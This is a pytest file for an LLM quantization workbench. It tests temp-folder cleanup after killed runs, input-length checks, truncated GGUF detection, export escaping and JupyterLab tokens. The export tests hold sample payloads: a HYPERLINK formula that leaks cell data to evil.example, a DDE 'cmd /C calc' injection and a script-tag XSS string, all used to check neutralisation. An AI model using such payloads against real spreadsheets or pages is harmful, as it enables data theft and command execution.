"""What a new user ran into: leftovers of killed runs, input errors found after a run was recorded, truncated
GGUF files, spreadsheet formulas and markup in exports, a fixed JupyterLab token."""

from __future__ import annotations

import dataclasses
import os
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from workbench import evaluate as ev
from workbench.tempdirs import owned_tempdir, remove_leftovers

ROOT = Path(__file__).resolve().parents[1]

SUITE = ev.Suite(
    "leftover-test", n_tokens=1024, context_length=128, batch_size=1, speed=False, n_generations=0
)

# ---- 1. a run killed while computing base outputs --------------------------------------------------------

_KILLED_CHILD = textwrap.dedent(
    """
    import sys, time
    from workbench import evaluate as ev
    from workbench.progress import Progress
    from workbench.tiny import byte_tokenizer, tiny_llama

    suite = ev.Suite("leftover-test", n_tokens=1024, context_length=128, batch_size=1, speed=False,
                     n_generations=0)

    def stall(fraction, message):
        if message.startswith("base model: chunk 2"):
            print("computing", flush=True)
            time.sleep(600)  # killed here, with the entry's temporary folder half written

    ev.base_outputs(tiny_llama(), byte_tokenizer(), suite, base_fingerprint="fp-killed", progress=Progress(stall))
    """
)


def _killed_leftover(home: Path) -> Path:
    """Run base outputs in a child process and SIGKILL it mid-computation; return the folder it left."""
    env = {**os.environ, "WORKBENCH_HOME": str(home), "PYTHONPATH": str(ROOT)}
    child = subprocess.Popen(
        [sys.executable, "-c", _KILLED_CHILD], env=env, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL
    )
    try:
        assert child.stdout is not None
        line = child.stdout.readline()
        assert line.strip() == b"computing", "the child did not reach the computation"
        os.kill(child.pid, signal.SIGKILL)
        child.wait(timeout=30)
    finally:
        if child.poll() is None:
            child.kill()
            child.wait()
    left = [p for p in (home / "base_outputs").iterdir() if p.name.startswith(".tmp-")]
    assert len(left) == 1 and (left[0] / "nll.npy").exists()
    return left[0]


def test_a_killed_runs_temporary_folder_is_removed_on_the_next_start_and_a_live_one_kept(
    tiny_llama, byte_tokenizer, tmp_path, monkeypatch
):
    monkeypatch.setenv("WORKBENCH_HOME", str(tmp_path))
    killed = _killed_leftover(tmp_path)
    root = tmp_path / "base_outputs"
    live = owned_tempdir(root, ".tmp-")  # this process's, computing
    # The same pid as this process but started at another time: a dead owner whose pid was reused.
    pid, start, host = live.name[len(".tmp-") :].split("-")[:3]
    reused = root / f".tmp-{pid}-{int(start) - 3600}-{host}-abcdefgh"
    reused.mkdir()
    old_style = root / ".tmp-k3j4h5g6"  # named before folders recorded their owner
    old_style.mkdir()
    week_ago = time.time() - 8 * 24 * 3600
    os.utime(old_style, (week_ago, week_ago))
    recent_old_style = root / ".tmp-a1b2c3d4"
    recent_old_style.mkdir()

    ev.clear_memory_cache()
    out = ev.base_outputs(tiny_llama, byte_tokenizer, SUITE, base_fingerprint="fp-next")
    assert out.n_tokens == 8 * 127
    assert not killed.exists() and not reused.exists() and not old_style.exists()
    assert live.is_dir() and recent_old_style.is_dir()  # a live owner, or one that cannot be asked yet
    assert remove_leftovers(root, ".tmp-") == []


def test_leftovers_of_dead_pids_go_and_live_processes_folders_stay(tmp_path):
    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        other = subprocess.run(
            [
                sys.executable,
                "-c",
                "import sys; from workbench.tempdirs import owned_tempdir; print(owned_tempdir(sys.argv[1], '.x-'))",
                str(tmp_path),
            ],
            env={**os.environ, "PYTHONPATH": str(ROOT)},
            capture_output=True,
            text=True,
            check=True,
        )
        dead = Path(other.stdout.strip())  # its process has exited
        # A folder of a running process, named as that process would name it.
        import psutil

        start = int(psutil.Process(sleeper.pid).create_time())
        host = dead.name[len(".x-") :].split("-")[2]
        running = tmp_path / f".x-{sleeper.pid}-{start}-{host}-zz9yy8xx"
        running.mkdir()
        unrelated = tmp_path / ".x-not-ours"
        unrelated.mkdir()
        assert dead.is_dir()
        assert remove_leftovers(tmp_path, ".x-") == [dead]
        assert running.is_dir() and unrelated.is_dir()
    finally:
        sleeper.kill()
        sleeper.wait()
    assert remove_leftovers(tmp_path, ".x-") == [running]


# ---- 2. input errors found after a run started ----------------------------------------------------------


def _paragraphs(path: Path, n: int, length: int) -> Path:
    # The tiny models' byte tokenizer makes one token per character: lengths are token counts.
    body = [f"{i:03d} " + "x" * (length - 4) for i in range(n)]
    path.write_text("\n\n".join(body))
    return path


def _recorded(url: str) -> int:
    from workbench.registry import Registry

    reg = Registry.open(url)
    try:
        return len(reg.runs_frame(status=None))
    finally:
        reg.close()


def _one_error_line(err: str) -> str:
    # Progress bars may have been drawn (and cleared) before the message: the message is the last line.
    lines = [line for line in err.replace("\r", "\n").split("\n") if line.strip()]
    assert lines and lines[-1].startswith("error: ") and err.count("error:") == 1 and "Traceback" not in err
    return lines[-1]


@pytest.mark.parametrize(
    ("argv", "needles"),
    [
        # 12 paragraphs of 20 tokens: the evaluation part (7 of them) is far below one 512-token chunk.
        (["eval"], ["short.txt", "evaluation part", "context_length=512", "longer text"]),
        # 10 paragraphs of 100: evaluation holds a chunk, calibration (2 paragraphs, 202 tokens) no window.
        (["run", "--technique", "gptq"], ["gptq: seq_len=256", "calibration part", "cal.txt", "202"]),
        (["run", "--technique", "awq", "--param", "seq_len=300"], ["awq: seq_len=300", "lower seq_len"]),
        (["sweep", "--technique", "gptq", "--bits", "4", "3"], ["gptq: seq_len=256", "cal.txt"]),
    ],
)
def test_a_text_too_short_is_refused_before_a_run_is_recorded(argv, needles, tmp_path, registry_url, capsys):
    from workbench.cli import main

    _paragraphs(tmp_path / "short.txt", 12, 20)
    text = _paragraphs(tmp_path / "cal.txt", 10, 100)
    if argv == ["eval"]:
        text = tmp_path / "short.txt"
    code = main([*argv, "--model", "tiny-llama", "--text", str(text), "--registry", registry_url])
    line = _one_error_line(capsys.readouterr().err)
    assert code == 2, line
    assert all(n in line for n in needles), line
    assert _recorded(registry_url) == 0


def test_run_experiment_checks_calibration_text_of_every_step_before_recording(tmp_path, registry_url):
    from workbench.errors import ConfigError
    from workbench.experiment import run_experiment
    from workbench.techniques import make_config

    text = _paragraphs(tmp_path / "cal.txt", 10, 100)
    suite = dataclasses.replace(ev.get_suite("quick"), corpus=str(text))
    pipeline = [make_config("rtn", bits=4), make_config("gptq", bits=4, seq_len=256)]
    with pytest.raises(ConfigError, match=r"^Step 2 of 2 \(gptq\): gptq: seq_len=256 needs 257 tokens"):
        run_experiment("tiny-llama", pipeline, suite, registry=registry_url)
    with pytest.raises(ConfigError, match="distill: batch_size=4 windows of seq_len=256 needs 1024"):
        run_experiment("tiny-llama", [make_config("distill", steps=1)], suite, registry=registry_url)
    assert _recorded(registry_url) == 0
    # Windows the text holds: the run goes ahead and is recorded.
    ok = run_experiment("tiny-llama", [make_config("gptq", bits=4, seq_len=64)], suite, registry=registry_url)
    assert ok.status == "done" and _recorded(registry_url) == 1


# ---- 3. a truncated GGUF file ---------------------------------------------------------------------------


def _write_gguf(path: Path) -> Path:
    import gguf
    import numpy as np

    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_block_count(1)
    writer.add_context_length(64)
    writer.add_embedding_length(32)
    writer.add_token_list([f"t{i}" for i in range(64)])
    writer.add_token_scores([0.0] * 64)
    rng = np.random.default_rng(0)
    writer.add_tensor("token_embd.weight", rng.standard_normal((64, 32)).astype(np.float32))
    writer.add_tensor("blk.0.attn_norm.weight", np.ones(32, dtype=np.float16))
    q8 = gguf.quants.quantize(
        rng.standard_normal((32, 64)).astype(np.float32), gguf.GGMLQuantizationType.Q8_0
    )
    writer.add_tensor("blk.0.ffn_up.weight", q8, raw_shape=q8.shape, raw_dtype=gguf.GGMLQuantizationType.Q8_0)
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    return path


def test_the_gguf_header_reader_agrees_with_gguf_py(tmp_path):
    from gguf import GGUFReader

    from workbench.models.memory import check_gguf_complete

    path = _write_gguf(tmp_path / "whole.gguf")
    layout = check_gguf_complete(path)
    reader = GGUFReader(str(path))
    assert layout is not None and layout.complete
    assert layout.data_offset == reader.data_offset
    assert layout.n_elements == sum(int(t.n_elements) for t in reader.tensors) == 64 * 32 + 32 + 32 * 64
    assert layout.expected_size == max(int(t.data_offset) + int(t.n_bytes) for t in reader.tensors)


@pytest.mark.parametrize("where", ["header", "data"])
def test_a_truncated_gguf_is_one_line_saying_it_is_incomplete(where, tmp_path, registry_url, capsys):
    from gguf import GGUFReader

    from workbench.cli import main
    from workbench.errors import ConfigError
    from workbench.models import load_model

    whole = _write_gguf(tmp_path / "whole.gguf")
    expected = max(int(t.data_offset) + int(t.n_bytes) for t in GGUFReader(str(whole)).tensors)
    keep = 200 if where == "header" else expected - 1000  # in the token list, or in a tensor
    cut = tmp_path / "model.gguf"
    cut.write_bytes(whole.read_bytes()[:keep])
    needles = ["model.gguf is incomplete", f"{keep:,} bytes", "Download or copy it again"]
    if where == "data":
        needles.append(f"its header promises {expected:,}")
    with pytest.raises(ConfigError) as err:
        load_model(str(cut))
    assert all(n in str(err.value) for n in needles), str(err.value)
    assert main(["eval", "--model", str(cut), "--registry", registry_url]) == 2
    line = _one_error_line(capsys.readouterr().err)
    assert all(n in line for n in needles), line


def test_a_truncated_demo_gguf_says_how_to_get_it_whole(tmp_path, monkeypatch):
    from workbench.errors import ConfigError
    from workbench.models import demo

    monkeypatch.setenv("WORKBENCH_HOME", str(tmp_path / "home"))
    whole = _write_gguf(tmp_path / "whole.gguf")
    extracted = tmp_path / "home" / "gguf" / demo.DEMO_GGUF
    extracted.parent.mkdir(parents=True)
    extracted.write_bytes(whole.read_bytes()[:-500])
    monkeypatch.setattr(demo, "_find_demo_gguf", lambda home: extracted)
    with pytest.raises(
        ConfigError, match=rf"{demo.DEMO_GGUF} is incomplete: .* Delete {extracted} and run again"
    ):
        demo.prepare_demo()


# ---- 4. formulas and markup in exports ------------------------------------------------------------------

_NOTES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\tpadded",
    "\rreturn",
    "-1.5",
    "plain note",
    "<script>alert(1)</script> & <b>bold</b>",
]


def _frame():
    import pandas as pd

    return pd.DataFrame(
        {
            "run_id": range(1, len(_NOTES) + 1),
            "notes": _NOTES,
            "metric_kl_mean": [-0.25, *[0.001 * i for i in range(1, len(_NOTES))]],
        }
    )


def test_csv_text_cells_cannot_run_as_spreadsheet_formulas_and_numbers_stay_numbers(tmp_path):
    import csv
    import io

    from workbench.export import export_frame

    text = export_frame(_frame(), "csv", tmp_path / "runs.csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    notes = [r["notes"] for r in rows]
    for note, original in zip(notes, _NOTES, strict=True):
        if original[0] in "=+-@\t\r" and original != "-1.5":
            # A bare carriage return would end the row for a reader: it is written as a newline (quoted).
            assert note == "'" + original.replace("\r", "\n"), note
        else:
            assert note == original
    assert rows[0]["metric_kl_mean"] == "-0.25" and float(rows[0]["metric_kl_mean"]) == -0.25
    assert rows[0]["run_id"] == "1"
    assert (tmp_path / "runs.csv").read_text() == text


def test_markdown_and_html_exports_show_markup_as_text():
    from workbench.export import export_frame
    from workbench.tables import comparison_table, export_table

    for fmt in ("md", "html"):
        text = export_frame(_frame(), fmt)
        assert "<script>" not in text and "<b>" not in text, fmt
        assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b&gt;bold&lt;/b&gt;" in text, fmt
    # The report table (the Compare panel's, `workbench runs --format md`) goes through the same export.
    runs = _frame().assign(status="done", technique="rtn", model="m", pipeline="rtn 4b", suite="quick")
    table = comparison_table(runs, columns=["run_id", "notes"])
    assert "&lt;script&gt;" in export_table(table, "md") and "<script>" not in export_table(table, "md")
    assert "'=HYPERLINK(" in export_table(table, "csv")


# ---- 5. the JupyterLab token ----------------------------------------------------------------------------


def test_lab_tokens_are_random_unless_the_user_sets_one():
    from workbench.cli import lab_token

    first, second = lab_token(None, {}), lab_token(None, {})
    assert first != second and len(first) >= 32 and len(second) >= 32
    assert "workbench" not in (first, second)
    assert lab_token("", {}) not in ("", lab_token("", {}))  # empty would switch Jupyter's check off
    assert lab_token("mine", {"WORKBENCH_TOKEN": "env"}) == "mine"
    assert lab_token(None, {"WORKBENCH_TOKEN": "env"}) == "env"


@pytest.mark.parametrize("dashboard", [False, True])
def test_workbench_lab_serves_and_prints_the_token_it_chose(dashboard, tmp_path, monkeypatch, capsys):
    from workbench import cli

    started: list[list[str]] = []
    monkeypatch.setattr(cli.subprocess, "call", lambda cmd, env=None: started.append(cmd) or 0)
    monkeypatch.delenv("WORKBENCH_TOKEN", raising=False)
    base = ["lab", "--notebooks", str(tmp_path), *(["--dashboard"] if dashboard else [])]
    assert cli.main(base) == 0 and cli.main(base) == 0 and cli.main([*base, "--token", "given"]) == 0
    flag = "--token=" if dashboard else "--IdentityProvider.token="
    tokens = [next(a[len(flag) :] for a in cmd if a.startswith(flag)) for cmd in started]
    printed = [
        line.split("token=")[1] for line in capsys.readouterr().out.splitlines() if "open http" in line
    ]
    assert printed == tokens and tokens[2] == "given"
    assert tokens[0] != tokens[1] and len(tokens[0]) >= 32
